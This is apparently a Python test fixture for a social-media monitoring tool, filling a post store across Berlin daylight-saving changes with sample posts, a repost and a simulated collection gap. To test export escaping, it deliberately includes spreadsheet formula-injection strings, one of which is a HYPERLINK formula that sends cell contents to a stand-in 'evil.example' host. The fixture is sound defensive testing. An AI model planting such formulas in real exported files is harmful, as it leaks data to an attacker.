"""The store the export and API tests read: filled through the real ingest pipeline across the
nights Europe/Berlin springs forward and falls back, with hostile text, unscored posts, a repost
and a collection gap (shared by tests/test_export.py and tests/test_api.py)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from zoneinfo import ZoneInfo

from scripted import ScriptedSource

from monitor.ingest.poll import Ingestor
from monitor.sources.base import Batch, RawPost, SourceError, SourceSettings

BERLIN = ZoneInfo("Europe/Berlin")
SPRING = datetime(2026, 3, 28, 18, 0, tzinfo=UTC)  # clocks go forward at 01:00 UTC on the 29th
AUTUMN = datetime(2026, 10, 24, 18, 0, tzinfo=UTC)  # and back at 01:00 UTC on 25 October

TOPICS = [
    SimpleNamespace(
        name="thaw",
        title=None,
        hashtags=["#TrumpPutinBusiness"],
        keywords=["Dmitriev"],
        exclude=[],
        languages=None,
    ),
    SimpleNamespace(
        name="sanctions",
        title=None,
        hashtags=[],
        keywords=["Russia sanctions"],
        exclude=[],
        languages=None,
    ),
]
PHRASES = [
    "What a great, wonderful deal! #TrumpPutinBusiness",
    "This is a terrible, shameful betrayal. Russia sanctions must stay #TrumpPutinBusiness",
    "Dmitriev says talks continue on Tuesday",
    "Russia sanctions: I love this, finally some good news",
    "Отличная новость для бизнеса, Дмитриев доволен #TrumpPutinBusiness",
    "Awful. Just awful. Russia sanctions lifted for this? #TrumpPutinBusiness",
    "comma, \"double quotes\", 'single' and a\nnew line #TrumpPutinBusiness",
    '=HYPERLINK("http://evil.example/?"&A1,"click") #TrumpPutinBusiness great',
    "+1+1 Russia sanctions are bad",
    "-2+3 Dmitriev is happy",
    "@SUM(1,2) Dmitriev sad",
    "[bold red]not markup[/] 😀 émoji and ‮ gone #TrumpPutinBusiness",
]


class Scripted(ScriptedSource):
    def __init__(self, name: str, script: list, **settings):
        super().__init__(SourceSettings(name=name, kind="scripted", **settings), TOPICS, script)


def _posts(prefix: str, start: datetime, count: int, step_min: int) -> list[RawPost]:
    return [
        RawPost(
            native_id=f"{prefix}{i}",
            text=PHRASES[i % len(PHRASES)] + f" ({prefix}{i})",
            created_at=start + timedelta(minutes=i * step_min + i % 3),
            author=[None, "alice", "=evil()", 'bob, "the" builder'][i % 4],
            url=f"https://example.org/{prefix}/{i}" if i % 2 else None,
            engagement=i % 7,
        )
        for i in range(count)
    ]


def fill(store) -> None:
    clock = [SPRING + timedelta(days=1)]
    ingestor = Ingestor(store, TOPICS, clock=lambda: clock[0])
    masto = Scripted(
        "masto",
        [
            Batch(posts=_posts("m", SPRING, 90, 23) + _posts("ma", AUTUMN, 30, 61), state={}),
            Batch(
                posts=[RawPost(native_id="boost1", text="", created_at=SPRING, repost_of="m3")],
                state={},
            ),
            SourceError("feed had a server error (503)", status=503),
        ],
    )
    odd = RawPost(native_id="num", text="-12", created_at=SPRING + timedelta(microseconds=123457))
    bsky = Scripted(
        "bsky",
        [Batch(posts=_posts("b", SPRING + timedelta(minutes=7), 40, 41) + [odd], state={})],
        match="all",
        topics=["thaw"],
    )
    ingestor.poll(masto)
    ingestor.poll(bsky)
    ingestor.poll(masto)
    clock[0] += timedelta(minutes=5)
    ingestor.poll(masto)  # the failure marks minutes since the last poll as incomplete


def written_elsewhere(store) -> None:
    """Forget that this process wrote the (SQLite) store, as if a collector in another process had
    filled it: its posts are then read through the ADBC driver, the path `monitor export` takes.
    Only for a store nothing in this process writes any more."""
    from monitor.store import db as store_mod

    if store.dialect == "sqlite":
        store_mod._WRITTEN_HERE.discard(store._sqlite_path())
